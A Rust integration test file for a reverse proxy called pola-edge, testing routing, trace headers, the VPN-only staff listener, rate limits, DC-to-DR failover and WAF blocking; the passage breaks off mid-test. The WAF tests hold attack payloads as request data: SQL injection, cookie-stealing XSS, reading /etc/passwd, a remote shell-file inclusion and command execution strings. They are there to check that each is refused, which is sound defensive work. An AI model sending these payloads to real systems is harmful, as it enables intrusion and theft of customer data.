//! The edge as a real process in front of real upstream servers on loopback: routing, request
//! ids, the staff listener's VPN check, limits, a member killed under load, and DC → DR.

#![expect(clippy::disallowed_types, reason = "the stand-in upstreams are plain axum servers")]

use std::{
    net::SocketAddr,
    path::PathBuf,
    process::{Child, Command},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use axum::{Json, Router, extract::Request, response::IntoResponse, routing};
use serde_json::{Value, json};

/// A stand-in upstream: `/readyz` answers 200, anything else echoes what arrived, named.
/// `stop` closes every connection, as a killed process would.
struct Upstream {
    addr: SocketAddr,
    /// Requests other than health checks that reached it whole (headers and body).
    seen: Arc<AtomicU64>,
    server: pola_core::testing::ThreadServer,
}

impl Upstream {
    fn start(name: &'static str) -> Self {
        Self::slow(name, Duration::ZERO)
    }

    /// An upstream that takes `delay` to answer anything but its health check.
    fn slow(name: &'static str, delay: Duration) -> Self {
        Self::with(name, delay, "ready")
    }

    /// An upstream on a site whose database is a read-only replica, as its readiness says.
    fn read_only(name: &'static str) -> Self {
        Self::with(name, Duration::ZERO, r#"{"status": "ready", "writable": false}"#)
    }

    fn with(name: &'static str, delay: Duration, readiness: &'static str) -> Self {
        let seen = Arc::new(AtomicU64::new(0));
        let counted = seen.clone();
        let echo = move |request: Request| {
            let seen = counted.clone();
            async move {
                tokio::time::sleep(delay).await;
                let (method, path) = (request.method().to_string(), request.uri().path().to_owned());
                // `?cache-control=no-store` is answered with that header.
                let cache_control = request
                    .uri()
                    .query()
                    .and_then(|q| q.split('&').find_map(|p| p.strip_prefix("cache-control=")))
                    .and_then(|v| axum::http::HeaderValue::from_str(&v.replace("%20", " ")).ok());
                let headers: serde_json::Map<String, Value> =
                    ["x-request-id", "traceparent", "x-forwarded-for", "x-forwarded-proto", "host"]
                        .into_iter()
                        .map(|n| {
                            let value = request.headers().get(n).and_then(|v| v.to_str().ok()).unwrap_or("");
                            (n.to_owned(), json!(value))
                        })
                        .collect();
                let body = axum::body::to_bytes(request.into_body(), usize::MAX).await.map(|b| b.len());
                if body.is_ok() {
                    seen.fetch_add(1, Ordering::Relaxed);
                }
                let body = body.unwrap_or(0);
                let mut reply =
                    Json(json!({"upstream": name, "method": method, "path": path, "headers": headers, "body_bytes": body}))
                        .into_response();
                if let Some(value) = cache_control {
                    reply.headers_mut().insert(axum::http::header::CACHE_CONTROL, value);
                }
                reply
            }
        };
        let app = Router::new()
            .route("/readyz", routing::get(move || async move { readiness }))
            .fallback(echo);
        let server = pola_core::testing::ThreadServer::start(app);
        Self {
            addr: server.addr,
            seen,
            server,
        }
    }

    fn stop(&mut self) {
        self.server.stop();
    }

    fn restart(&mut self) {
        self.server.restart();
    }
}

/// A `pola-edge serve` process with its own configuration and ports.
struct EdgeProcess {
    child: Option<Child>,
    dir: PathBuf,
    public: String,
    staff: String,
    admin: String,
}

impl EdgeProcess {
    /// `config` is TOML for everything but the listeners and the state file.
    async fn start(config: &str) -> Self {
        Self::start_on(config, pola_core::testing::free_port()).await
    }

    /// The same, its public listener on `public` (known beforehand, as a payment gateway's
    /// notify URL needs it).
    async fn start_on(config: &str, public: u16) -> Self {
        let dir = std::env::temp_dir().join(format!("pola-edge-test-{}", uuid::Uuid::now_v7().simple()));
        std::fs::create_dir_all(&dir).expect("a folder");
        let (staff, admin) = (pola_core::testing::free_port(), pola_core::testing::free_port());
        let file = format!(
            "[listen]\npublic = \"127.0.0.1:{public}\"\nstaff = \"127.0.0.1:{staff}\"\nadmin = \"127.0.0.1:{admin}\"\n\n\
             [log]\nfilter = \"info\"\n\n{config}\n"
        )
        .replace("STATE_FILE", &dir.join("site.json").display().to_string());
        std::fs::write(dir.join("edge.toml"), file).expect("the configuration");
        let mut edge = Self {
            child: None,
            dir,
            public: format!("http://127.0.0.1:{public}"),
            staff: format!("http://127.0.0.1:{staff}"),
            admin: format!("http://127.0.0.1:{admin}"),
        };
        edge.restart().await;
        edge
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_pola-edge"));
        command
            .args(args)
            .arg("--config")
            .arg(self.dir.join("edge.toml"))
            .env("POLA_EDGE_WAF__WORK_DIR", self.dir.join("waf"));
        command
    }

    async fn restart(&mut self) {
        self.stop();
        let log = std::fs::File::create(self.dir.join("edge.log")).expect("a log file");
        let child = self
            .command(&["serve"])
            .stdout(log.try_clone().expect("a handle"))
            .stderr(log)
            .spawn()
            .expect("pola-edge starts");
        self.child = Some(child);
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline {
            let ready = std::net::TcpStream::connect(self.public.trim_start_matches("http://")).is_ok()
                && std::net::TcpStream::connect(self.admin.trim_start_matches("http://")).is_ok();
            if ready {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("pola-edge did not start: {}", self.log());
    }

    fn stop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = Command::new("kill").args(["-INT", &child.id().to_string()]).status();
            let _ = child.wait();
        }
    }

    /// Whether `needle` shows in the log within a few seconds (lines are written after the
    /// response).
    async fn wait_for_log(&self, needle: &str) -> bool {
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline {
            if self.log().contains(needle) {
                return true;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        false
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.join("edge.log")).unwrap_or_default()
    }

    /// What the admin listener's `/metrics` says now.
    async fn metrics(&self) -> String {
        client()
            .get(format!("{}/metrics", self.admin))
            .send()
            .await
            .expect("metrics")
            .text()
            .await
            .expect("text")
    }

    /// `pola-edge <args>` against this edge; its standard output.
    fn cli(&self, args: &[&str]) -> String {
        let output = self.command(args).output().expect("pola-edge runs");
        assert!(
            output.status.success(),
            "pola-edge {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).into_owned()
    }
}

impl Drop for EdgeProcess {
    fn drop(&mut self) {
        self.stop();
        if std::thread::panicking() {
            eprintln!(
                "pola-edge's log:\n{}",
                self.log().lines().rev().take(30).collect::<Vec<_>>().join("\n")
            );
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn client() -> reqwest::Client {
    pola_core::install_crypto_provider();
    reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .expect("a client")
}

async fn get(url: &str) -> (u16, reqwest::header::HeaderMap, Value) {
    let response = client().get(url).send().await.expect("an answer");
    let (status, headers) = (response.status().as_u16(), response.headers().clone());
    (status, headers, response.json().await.unwrap_or(Value::Null))
}

fn pools(pools: &[(&str, &str, &[&Upstream], &[&Upstream])]) -> String {
    let addrs = |list: &[&Upstream]| list.iter().map(|u| format!("\"{}\"", u.addr)).collect::<Vec<_>>().join(", ");
    pools
        .iter()
        .map(|(name, prefix, dc, dr)| {
            format!(
                "[[pools]]\nname = \"{name}\"\nprefixes = [\"{prefix}\"]\ndc = [{}]\ndr = [{}]\n",
                addrs(dc),
                addrs(dr)
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

macro_rules! site {
    () => {
        "[site]\nstate_file = \"STATE_FILE\"\ncheck_interval_ms = 200\nfailure_threshold = 3\n"
    };
}
/// The site section of a real shop's edge: the default allow-list on the public listener.
const SHOP_SITE: &str = site!();
/// The same for stand-in upstreams, which answer any path: the public listener forwards all.
const SITE: &str = concat!(site!(), "\n[public]\nroutes = [\"* /**\"]\n");
/// Limits a steady load from one address stays under.
const UNLIMITED: &str = "[limits]\nper_ip_per_sec = 1000000\nper_token_per_sec = 1000000\n";

#[tokio::test]
async fn requests_are_routed_by_prefix_with_request_ids_trace_context_and_security_headers() {
    let (main, orders) = (Upstream::start("main"), Upstream::start("orders"));
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{}",
        pools(&[("main", "/", &[&main], &[]), ("orders", "/api/v1/orders", &[&orders], &[])])
    ))
    .await;

    let (status, headers, body) = get(&format!("{}/api/v1/orders/42", edge.public)).await;
    assert_eq!(
        (status, &body["upstream"], &body["path"]),
        (200, &json!("orders"), &json!("/api/v1/orders/42"))
    );
    let id = headers["x-request-id"].to_str().expect("an id");
    assert!(uuid::Uuid::parse_str(id).is_ok(), "{id}");
    assert_eq!(body["headers"]["x-request-id"], id, "the upstream sees the same id");
    assert!(body["headers"]["traceparent"].as_str().expect("made").starts_with("00-"));
    assert_eq!(body["headers"]["x-forwarded-for"], "127.0.0.1");
    for (name, value) in [
        ("x-content-type-options", "nosniff"),
        ("x-frame-options", "DENY"),
        ("referrer-policy", "no-referrer"),
    ] {
        assert_eq!(headers[name], value);
    }
    let (_, _, body) = get(&format!("{}/api/v1/catalog/products", edge.public)).await;
    assert_eq!(body["upstream"], "main");

    // A client's own request id and trace travel on: the upstream sees the same trace, with the
    // edge's own span as its parent.
    let traceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    let response = client()
        .get(format!("{}/x", edge.public))
        .header("x-request-id", "support-ticket-77")
        .header("traceparent", traceparent)
        .send()
        .await
        .expect("an answer");
    assert_eq!(response.headers()["x-request-id"], "support-ticket-77");
    let body: Value = response.json().await.expect("json");
    assert_eq!(body["headers"]["x-request-id"], json!("support-ticket-77"));
    let sent = body["headers"]["traceparent"].as_str().expect("a traceparent");
    let sent = pola_apm::parse_traceparent(sent).expect("a valid traceparent");
    assert_eq!(
        sent.trace_id, "4bf92f3577b34da6a3ce929d0e0e4736",
        "the client's trace goes on"
    );
    assert_ne!(sent.parent_id, "00f067aa0ba902b7", "under the edge's span");
    assert!(sent.sampled, "as sampled as the client said");
    assert!(edge.wait_for_log("\"path\":\"/x\"").await, "an access log line per request");
}

#[tokio::test]
async fn the_edge_samples_the_traces_it_starts_as_configured_and_a_callers_choice_stands() {
    let main = Upstream::start("main");
    let sent = |body: &Value| {
        pola_apm::parse_traceparent(body["headers"]["traceparent"].as_str().unwrap_or_default()).expect("a traceparent")
    };
    for (percent, sampled) in [(0, false), (100, true)] {
        let edge = EdgeProcess::start(&format!(
            "{SITE}\n[apm]\nstatements_percent = {percent}\n\n{}",
            pools(&[("main", "/", &[&main], &[])])
        ))
        .await;
        let (_, _, body) = get(&format!("{}/x", edge.public)).await;
        assert_eq!(sent(&body).sampled, sampled, "a trace the edge starts at {percent}%");
        let caller = pola_apm::TraceParent {
            trace_id: pola_apm::new_trace_id(),
            parent_id: pola_apm::new_span_id(),
            sampled: !sampled,
        };
        let body: Value = client()
            .get(format!("{}/x", edge.public))
            .header("traceparent", caller.header())
            .send()
            .await
            .expect("an answer")
            .json()
            .await
            .expect("json");
        assert_eq!(
            sent(&body).sampled,
            !sampled,
            "the caller's choice, whatever the edge's {percent}%"
        );
    }
}

#[tokio::test]
async fn the_staff_listener_serves_only_the_vpn_and_staff_paths_are_not_public() {
    let main = Upstream::start("main");
    let outside = EdgeProcess::start(&format!(
        "{SHOP_SITE}\n[staff]\nvpn_ranges = [\"10.8.0.0/16\"]\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let (status, headers, body) = get(&format!("{}/api/v1/identity/staff/customers", outside.staff)).await;
    assert_eq!(status, 403);
    assert_eq!(headers["content-type"], "application/problem+json");
    assert_eq!(body["request_id"], headers["x-request-id"].to_str().expect("an id"));
    assert!(
        outside
            .log()
            .contains("staff listener refused a client outside the VPN ranges")
    );
    // Nothing of the back-office answers outside the VPN: not its pages, not its sign-in.
    for path in [
        "/backoffice/",
        "/backoffice/sign-in",
        "/backoffice/orders",
        "/backoffice/assets/desk.css",
    ] {
        let (status, _, _) = get(&format!("{}{path}", outside.staff)).await;
        assert_eq!(status, 403, "{path} from outside the VPN");
    }
    let sign_in = client()
        .post(format!("{}/backoffice/sign-in", outside.staff))
        .form(&[("email", "admin@pola.lk"), ("password", "guess")])
        .send()
        .await
        .expect("an answer");
    assert_eq!(sign_in.status(), 403, "no sign-in from outside the VPN");
    let (status, _, _) = get(&format!("{}/api/v1/identity/staff/customers", outside.public)).await;
    assert_eq!(status, 404, "staff-only paths are not on the public listener");
    let (status, _, _) = get(&format!("{}/backoffice/", outside.public)).await;
    assert_eq!(status, 404);
    let (status, _, body) = get(&format!("{}/api/v1/catalog/products", outside.public)).await;
    assert_eq!((status, &body["upstream"]), (200, &json!("main")), "customer routes are");

    let inside = EdgeProcess::start(&format!(
        "{SITE}\n[staff]\nvpn_ranges = [\"10.8.0.0/16\", \"127.0.0.0/8\"]\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let (status, _, body) = get(&format!("{}/api/v1/identity/staff/customers", inside.staff)).await;
    assert_eq!((status, &body["upstream"]), (200, &json!("main")));
}

#[tokio::test]
async fn rate_and_body_limits_answer_429_and_413() {
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[limits]\nper_ip_per_sec = 1000\nper_token_per_sec = 5\nauth_per_ip_per_min = 3\nbody_bytes = 1000\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let mut statuses = vec![];
    for _ in 0..5 {
        let response = client()
            .post(format!("{}/api/v1/identity/token", edge.public))
            .json(&json!({"grant_type": "password"}))
            .send()
            .await
            .expect("an answer");
        if response.status() == 429 {
            assert_eq!(response.headers()["retry-after"], "60");
            assert_security_headers("429", response.headers());
        }
        statuses.push(response.status().as_u16());
    }
    assert_eq!(statuses, [200, 200, 200, 429, 429], "sign-in attempts are limited per minute");

    // Twenty at once from one token: whatever the machine's pace, no more than 5 a second pass
    // (the limiter counts whole seconds, so a burst that straddles n of them passes 5 × n).
    let started = std::time::Instant::now();
    let answers = futures_util::future::join_all((0..20).map(|_| {
        client()
            .get(format!("{}/api/v1/cart", edge.public))
            .bearer_auth("a-token")
            .send()
    }))
    .await;
    let seconds = u32::try_from(started.elapsed().as_secs())
        .unwrap_or(u32::MAX)
        .saturating_add(2);
    let passed = answers
        .iter()
        .filter(|a| a.as_ref().expect("an answer").status() != 429)
        .count();
    let passed = u32::try_from(passed).expect("a count");
    assert!(
        passed <= 5 * seconds,
        "one token is limited to 5 a second: {passed} of 20 passed within {seconds} s"
    );

    let big = client()
        .post(format!("{}/upload", edge.public))
        .body(vec![b'x'; 5000])
        .send()
        .await
        .expect("an answer");
    assert_eq!(big.status(), 413);
    assert_security_headers("413", big.headers());
    let addr = edge.public.trim_start_matches("http://").to_owned();
    let answer = tokio::task::spawn_blocking(move || chunked_upload(&addr, 50, 100))
        .await
        .expect("sent");
    assert!(
        answer.starts_with("HTTP/1.1 413"),
        "a chunked body is counted as it arrives: {answer}"
    );
    let small = client()
        .post(format!("{}/upload", edge.public))
        .json(&json!({"pad": "x".repeat(490)}))
        .send()
        .await
        .expect("an answer");
    let status = small.status();
    let body: Value = small.json().await.expect("json");
    assert_eq!(
        body["body_bytes"],
        500,
        "{status} {body}\n{}",
        edge.log().lines().rev().take(4).collect::<Vec<_>>().join("\n")
    );
}

/// Posts `chunks` chunks of `size` bytes with no length declared, as fast as the edge takes
/// them (it may stop reading once it has refused the body), and returns what it answered.
fn chunked_upload(addr: &str, chunks: usize, size: usize) -> String {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).expect("a connection");
    stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a timeout");
    let _ = stream.write_all(b"POST /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n");
    for _ in 0..chunks {
        let chunk = format!("{size:x}\r\n{}\r\n", "y".repeat(size));
        if stream.write_all(chunk.as_bytes()).is_err() {
            break;
        }
    }
    let _ = stream.write_all(b"0\r\n\r\n");
    let mut answer = vec![0u8; 4096];
    let read = stream.read(&mut answer).unwrap_or(0);
    String::from_utf8_lossy(&answer[..read]).into_owned()
}

/// Sends GETs from four clients until `stop`; counts answers by upstream and failures.
async fn steady(url: String, stop: Arc<std::sync::atomic::AtomicBool>) -> (u64, u64, std::collections::HashMap<String, u64>) {
    let (ok, failed) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let seen = Arc::new(std::sync::Mutex::new(std::collections::HashMap::new()));
    let mut workers = vec![];
    for _ in 0..4 {
        let (url, stop, ok, failed, seen) = (url.clone(), stop.clone(), ok.clone(), failed.clone(), seen.clone());
        workers.push(tokio::spawn(async move {
            let client = client();
            while !stop.load(Ordering::Relaxed) {
                match client.get(&url).send().await {
                    Ok(response) if response.status() == 200 => {
                        let body: Value = response.json().await.unwrap_or(Value::Null);
                        let name = body["upstream"].as_str().unwrap_or("?").to_owned();
                        *seen.lock().expect("unpoisoned").entry(name).or_insert(0) += 1;
                        ok.fetch_add(1, Ordering::Relaxed);
                    }
                    other => {
                        if failed.fetch_add(1, Ordering::Relaxed) == 0 {
                            eprintln!("the first failed request: {other:?}");
                        }
                    }
                }
            }
        }));
    }
    for worker in workers {
        worker.await.expect("a worker");
    }
    let seen = seen.lock().expect("unpoisoned").clone();
    (ok.load(Ordering::Relaxed), failed.load(Ordering::Relaxed), seen)
}

/// Waits until `holds` says yes, for at most 30 s (on a busy machine a step may take seconds).
async fn eventually(what: &str, holds: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !holds() {
        assert!(Instant::now() < deadline, "never happened: {what}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn one_of_two_members_killed_under_steady_load_fails_no_request_and_rejoins() {
    let (mut one, two) = (Upstream::start("one"), Upstream::start("two"));
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n{UNLIMITED}\n{}",
        pools(&[("main", "/", &[&one, &two], &[])])
    ))
    .await;
    let answered = |member: &Upstream| member.seen.load(Ordering::Relaxed);
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let load = tokio::spawn(steady(format!("{}/api/v1/steady", edge.public), stop.clone()));
    eventually("both members answer", || answered(&one) > 0 && answered(&two) > 0).await;
    one.stop();
    let before = answered(&two);
    eventually("fifty answers from the member left", || answered(&two) >= before + 50).await;
    stop.store(true, Ordering::Relaxed);
    let (ok, failed, seen) = load.await.expect("the load ran");
    assert_eq!(failed, 0, "of {ok} requests; answered by {seen:?}");

    one.restart();
    let before = answered(&one);
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let load = tokio::spawn(steady(format!("{}/api/v1/steady", edge.public), stop.clone()));
    eventually("the member rejoins", || answered(&one) > before).await;
    stop.store(true, Ordering::Relaxed);
    let (_, failed, seen) = load.await.expect("the load ran");
    assert_eq!(failed, 0, "answered by {seen:?}");
}

#[tokio::test]
async fn the_whole_dc_pool_killed_moves_traffic_to_dr_which_stays_until_an_operator_moves_it_back() {
    let (mut dc, dr) = (Upstream::start("dc"), Upstream::start("dr"));
    let mut edge = EdgeProcess::start(&format!("{SITE}\n{UNLIMITED}\n{}", pools(&[("main", "/", &[&dc], &[&dr])]))).await;
    let url = format!("{}/api/v1/orders/42", edge.public);
    assert_eq!(get(&url).await.2["upstream"], "dc");

    dc.stop();
    let killed = Instant::now();
    let moved = loop {
        let (status, _, body) = get(&url).await;
        if status == 200 && body["upstream"] == "dr" {
            break killed.elapsed();
        }
        assert!(killed.elapsed() < Duration::from_secs(30), "traffic never moved to DR");
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    // Configured: 3 failed checks 200 ms apart, each failing within its 200 ms timeout.
    println!(
        "DC killed → traffic on DR after {} ms (configured detection: 3 checks × 200 ms)",
        moved.as_millis()
    );
    let status: Value = serde_json::from_str(&edge.cli(&["status"])).expect("json");
    assert_eq!(status["active_site"], "dr");

    dc.restart();
    tokio::time::sleep(Duration::from_millis(1000)).await;
    assert_eq!(get(&url).await.2["upstream"], "dr", "DC back: no move by itself");

    edge.cli(&["site", "activate", "dc"]);
    assert_eq!(get(&url).await.2["upstream"], "dc");
    edge.cli(&["site", "activate", "dr"]);
    edge.restart().await;
    assert_eq!(get(&url).await.2["upstream"], "dr", "the choice survives a restart");
    let metrics = edge.metrics().await;
    assert!(metrics.contains("edge_active_site_dr 1"), "{metrics}");
}

const WAF_OFF_LIMITS: &str = "[limits]\nper_ip_per_sec = 1000000\nper_token_per_sec = 1000000\nauth_per_ip_per_min = 1000000\n";

/// An edge with its WAF on and its limits out of the way, in front of `main` for every path.
async fn waf_front(main: &Upstream) -> EdgeProcess {
    EdgeProcess::start(&format!(
        "{SITE}\n{WAF_OFF_LIMITS}\n{}",
        pools(&[("main", "/", &[main], &[])])
    ))
    .await
}

/// Sends `request` and returns the status and the problem's request id.
async fn status_of(request: reqwest::RequestBuilder) -> (u16, String) {
    let response = request.send().await.expect("an answer");
    let status = response.status().as_u16();
    let body: Value = response.json().await.unwrap_or(Value::Null);
    (status, body["request_id"].as_str().unwrap_or("").to_owned())
}

/// One attack of each family of the OWASP Core Rule Set's rules (3.3, paranoia level 1), as a
/// client would send it: each is refused with 403 before an upstream sees it, and its audit line
/// names a rule of its family. Run before and after any change to how the edge inspects.
#[tokio::test]
async fn an_attack_of_every_crs_rule_family_is_blocked_by_a_rule_of_that_family() {
    let main = Upstream::start("main");
    let edge = waf_front(&main).await;
    let url = |path: &str| format!("{}{path}", edge.public);
    let client = client();
    let list = "/api/v1/catalog/products";
    let attacks: Vec<(&str, &str, reqwest::RequestBuilder)> = vec![
        (
            "913",
            "a security scanner",
            client
                .get(url(list))
                .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ),
        (
            "920",
            "a NUL byte in an argument",
            client.get(url(&format!("{list}?q=tea%00.php"))),
        ),
        (
            "921",
            "HTTP response splitting",
            client.get(url(&format!("{list}?q=%0d%0aSet-Cookie:%20session=stolen"))),
        ),
        (
            "930",
            "local file inclusion",
            client.get(url(&format!("{list}?file=../../../../etc/passwd"))),
        ),
        (
            "931",
            "remote file inclusion",
            client.get(url(&format!("{list}?page=http://203.0.113.7/shell.txt?"))),
        ),
        (
            "932",
            "a Unix command",
            client.get(url(&format!("{list}?q=;cat%20/etc/passwd"))),
        ),
        (
            "933",
            "PHP code",
            client.get(url(&format!("{list}?q=%3C%3Fphp%20system(%27id%27);%20%3F%3E"))),
        ),
        (
            "934",
            "Node.js code",
            client
                .post(url("/api/v1/support/tickets"))
                .json(&json!({"message": "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"})),
        ),
        (
            "941",
            "cross-site scripting",
            client.get(url(&format!("{list}?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"))),
        ),
        (
            "942",
            "SQL injection",
            client.get(url(&format!(
                "{list}?q=1%27%20UNION%20SELECT%20password%20FROM%20customers--"
            ))),
        ),
        (
            "943",
            "session fixation",
            client.get(url(&format!(
                "{list}?q=%3Cmeta%20http-equiv=Set-Cookie%20content=%22PHPSESSID=stolen%22%3E"
            ))),
        ),
        (
            "944",
            "Java deserialisation",
            client.get(url(&format!("{list}?q=java.lang.Runtime.getRuntime().exec(%22id%22)"))),
        ),
    ];
    let mut missed = vec![];
    for (family, what, attack) in attacks {
        let (status, request_id) = status_of(attack).await;
        // The access line is written once the answer is out: wait for it.
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        let line = loop {
            let found = edge
                .log()
                .lines()
                .find(|l| l.contains("\"target\":\"access\"") && l.contains(&format!("\"request_id\":\"{request_id}\"")))
                .map(str::to_owned);
            match found {
                Some(line) => break line,
                None if std::time::Instant::now() < deadline => tokio::time::sleep(Duration::from_millis(20)).await,
                None => panic!("{family} {what}: no access line for {request_id}"),
            }
        };
        let rules: Vec<&str> = line
            .split("\"waf_rules\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .map(|r| r.split(',').collect())
            .unwrap_or_default();
        println!("{family} {what}: {status}, rules {rules:?}");
        if status != 403 || !rules.iter().any(|r| r.starts_with(family)) {
            missed.push(format!("{family} {what}: {status} {rules:?}"));
        }
    }
    assert!(
        missed.is_empty(),
        "not refused by a rule of their family:\n{}",
        missed.join("\n")
    );
    assert_eq!(main.seen.load(Ordering::Relaxed), 0, "no attack reached an upstream");
}

#[tokio::test]
async fn attacks_in_the_query_headers_cookies_and_bodies_are_blocked_before_they_reach_an_upstream() {
    let main = Upstream::start("main");
    let edge = waf_front(&main).await;
    let url = |path: &str| format!("{}{path}", edge.public);
    let client = client();
    let probes: Vec<(&str, reqwest::RequestBuilder)> = vec![
        ("SQL injection in the query", client.get(url("/api/v1/catalog/products?q=1%27%20OR%20%271%27%3D%271"))),
        ("XSS in the query", client.get(url("/api/v1/catalog/products?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"))),
        ("XSS in a header", client.get(url("/api/v1/catalog/products")).header("user-agent", "<script>alert(document.cookie)</script>")),
        ("SQL injection in a cookie", client.get(url("/api/v1/cart")).header("cookie", "session=1' UNION SELECT password FROM customers--")),
        ("path traversal", client.get(url("/api/v1/catalog/products?file=../../../../etc/passwd"))),
        ("remote command execution", client.get(url("/api/v1/catalog/products?cmd=;cat%20/etc/passwd"))),
        ("response splitting", client.get(url("/api/v1/catalog/products?q=%0d%0aSet-Cookie:%20session=stolen"))),
        ("request smuggling", client.get(url("/api/v1/catalog/products?q=GET%20/admin%20HTTP/1.1"))),
        (
            "XSS in a JSON body",
            client.post(url("/api/v1/identity/register")).json(&json!({"email": "x@example.lk", "name": "<script>alert(document.cookie)</script>", "password": "a long passphrase"})),
        ),
        (
            "SQL injection in a form body",
            client
                .post(url("/api/v1/identity/token"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body("username=admin%27%20OR%20%271%27%3D%271%27%20--&password=x"),
        ),
    ];
    for (what, probe) in probes {
        let (status, request_id) = status_of(probe).await;
        assert_eq!(
            status,
            403,
            "{what}: {}",
            edge.log().lines().rev().take(6).collect::<Vec<_>>().join("\n")
        );
        assert!(
            edge.log().contains(&format!("\"request_id\":\"{request_id}\"")) && !request_id.is_empty(),
            "{what}: an audit line"
        );
    }
    let addr = edge.public.trim_start_matches("http://").to_owned();
    let answer = tokio::task::spawn_blocking(move || {
        chunked_json(
            &addr,
            r#"{"q": "1' UNION SELECT email, password_hash FROM customers --", "pad": "PADDING"}"#,
        )
    })
    .await
    .expect("sent");
    assert!(
        answer.starts_with("HTTP/1.1 403"),
        "a chunked JSON body is inspected whole: {answer}"
    );
    assert_eq!(main.seen.load(Ordering::Relaxed), 0, "no attack reached an upstream whole");
    // Refused after its body was read, a request's connection closes, and says so first.
    let refused = client
        .post(url("/api/v1/identity/register"))
        .json(&json!({"name": "<script>alert(document.cookie)</script>"}))
        .send()
        .await
        .expect("an answer");
    assert_eq!(
        (refused.status().as_u16(), &refused.headers()["connection"]),
        (403, &"close".parse::<reqwest::header::HeaderValue>().expect("a value"))
    );
    let log = edge.log();
    assert!(
        log.contains("\"action\":\"blocked\"") && log.contains("942100"),
        "rule ids in the audit lines"
    );

    // The shop's own traffic passes: searches, Sinhala and Tamil names, JSON and forms.
    let benign = [
        client.get(url("/api/v1/catalog/products?q=batik&attr=size:M&max_price=500000&in_stock=true&limit=3")),
        client.post(url("/api/v1/identity/register")).json(&json!({"email": "nimal@example.lk", "password": "a long passphrase", "name": "සුනිල් පෙරේරා", "phone": "077 123 4567", "nic": "851230456V"})),
        client.post(url("/api/v1/identity/register")).json(&json!({"email": "selvi@example.lk", "password": "a long passphrase", "name": "செல்வி தேவநேசன்"})),
        client.post(url("/api/v1/orders")).header("idempotency-key", "0193a6c2-1f7e-7c3a-9d51-2f1e4b5a6c7d").json(&json!({"delivery": {"recipient": "Nimal Perera", "phone": "077 123 4567", "line1": "12 Galle Road", "city": "Colombo 03"}})),
    ];
    for request in benign {
        assert_eq!(status_of(request).await.0, 200);
    }
    assert_eq!(main.seen.load(Ordering::Relaxed), 4);
}

/// Posts `json` as a chunked body in 16-byte chunks; what the edge answered.
fn chunked_json(addr: &str, json: &str) -> String {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).expect("a connection");
    stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a timeout");
    let mut request = b"POST /api/v1/catalog/products HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    for chunk in json.as_bytes().chunks(16) {
        request.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
        request.extend(chunk);
        request.extend(b"\r\n");
    }
    request.extend(b"0\r\n\r\n");
    stream.write_all(&request).expect("sent");
    let mut answer = vec![0u8; 4096];
    let read = stream.read(&mut answer).unwrap_or(0);
    String::from_utf8_lossy(&answer[..read]).into_owned()
}

#[tokio::test]
async fn detection_only_mode_logs_what_it_would_block_and_blocks_nothing() {
    let main = Upstream::start("main");
    let edge = EdgeProcess::start(&format!(
        "{SITE}\n[waf]\nmode = \"detection_only\"\n\n{}",
        pools(&[("main", "/", &[&main], &[])])
    ))
    .await;
    let (status, _) = status_of(client().get(format!(
        "{}/api/v1/catalog/products?q=1%27%20OR%20%271%27%3D%271",
        edge.public
    )))
    .await;
    assert_eq!(status, 200);
    let log = edge.log();
    assert!(log.contains("\"action\":\"detected\"") && log.contains("942100"), "{log}");
}

#[tokio::test]
async fn custom_rules_and_exclusions_come_from_files_and_reload_without_a_restart() {
    let main = Upstream::start("main");
    let rules = std::env::temp_dir().join(format!("pola-waf-{}", uuid::Uuid::now_v7().simple()));
    std::fs::create_dir_all(&rules).expect("a folder");
    let (custom, exclusions) = (rules.join("custom.conf"), rules.join("exclusions.conf"));
    std::fs::write(
        &custom,
        "SecRule ARGS:coupon \"@streq FREEPOLA\" \"id:10001,phase:2,deny,status:403,log,msg:'no free coupons'\"\n",
    )
    .expect("written");
    std::fs::write(&exclusions, "# none yet\n").expect("written");
    let edge = EdgeProcess::start(&format!(
